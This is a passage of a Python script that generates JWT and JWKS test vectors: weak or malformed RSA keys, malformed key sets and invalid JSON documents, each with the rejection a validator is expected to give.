        "with the exponent 0": {"e": b64(b"\0")},
        "with the exponent 1": {"e": uint(1)},
        "with the exponent 3": {"e": uint(3)},
        "with the exponent 65535": {"e": uint(65535)},
        "with an even exponent": {"e": uint(65538)},
        "with an exponent of 33 bits": {"e": uint(2**32 + 1)},
        "with an exponent of 65 bits": {"e": uint(2**64 + 65537)},
        "with the modulus for an exponent": {"e": good["n"]},
    }
    for secret in ("d", "p", "q", "dp", "dq", "qi", "oth", "k"):
        unusable[f"that gives away {secret}"] = {secret: e}
    for name, changes in unusable.items():
        yield {"name": name, "document": {"keys": [MAIN.jwk(**changes)]}, "kids": []}
    other = KEYS["next"].jwk()
    for name, keys, kids in (
        ("no keys", [], []),
        ("two keys", [good, other], [good["kid"], other["kid"]]),
        ("the same key twice", [good, good, other], [other["kid"]]),
        ("two keys of one id", [good, other | {"kid": good["kid"]}], []),
        ("one id, one use", [good, other | {"kid": good["kid"], "use": "enc"}], [good["kid"]]),
        ("members that are no keys", [None, 1, "x", [], {}, good], [good["kid"]]),
        ("a symmetric key", [{"kty": "oct", "kid": "s", "alg": "HS256"}, good], [good["kid"]]),
        ("as many members as allowed", [{}] * 255 + [good], [good["kid"]]),
    ):
        yield {"name": name, "document": {"keys": keys}, "kids": kids}
    yield {"name": "more beside the keys", "document": {"keys": [good], "x": 1}, "kids": [MAIN.kid]}
    for name, document in {
        "an empty text": "",
        "not JSON": "<html>",
        "a list": "[]",
        "no member keys": "{}",
        "keys is an object": '{"keys":{}}',
        "keys is null": '{"keys":null}',
        "keys twice": '{"keys":[],"keys":[]}',
        "n twice": '{"keys":[{"n":"AQ","n":"AQ"}]}',
        "an error envelope": '{"ok":false,"error":{"code":"INTERNAL"}}',
        "too many members": json.dumps({"keys": [{}] * 257}),
        "followed by more": '{"keys":[]} {}',
    }.items():
        yield {"name": name, "text": document, "reason": "InvalidKeyError"}


def document() -> Json:
    tokens = [
        *what_is_accepted(),
        *wrong_form(),
        *wrong_json(),
        *wrong_header(),
        *wrong_key(),
        *wrong_issuer_or_audience(),
        *wrong_times(),
        *wrong_identity_or_binding(),
        *confused_kinds(),
    ]
    names = [case["name"] for case in tokens]
    assert len(names) == len(set(names)), "a name says which case failed, so it is there once"
    published = [KEYS[name].jwk() for name in ("main", "next", "bits3072", "bits4096")]
    return {
        "about": "Made by make_jwt.py. TEST KEYS: see jwt-test-keys.json.",
        "now": NOW,
        "issuer": ISSUER,
        "jwks": {"keys": published},
        "signing": [
            {"typ": TYP[kind], "claims": claims, "token": signed(claims, kind)}
            for kind, claims in (("login", login()), ("binding", binding()), ("access", access()))
        ],
        "tokens": tokens,
        "key_sets": list(key_sets()),
    }


def main() -> int:
    text = json.dumps(document(), indent=1, ensure_ascii=True) + "\n"
    if "--check" in sys.argv[1:]:
        return 0 if TARGET.read_text() == text else 1
    TARGET.write_text(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
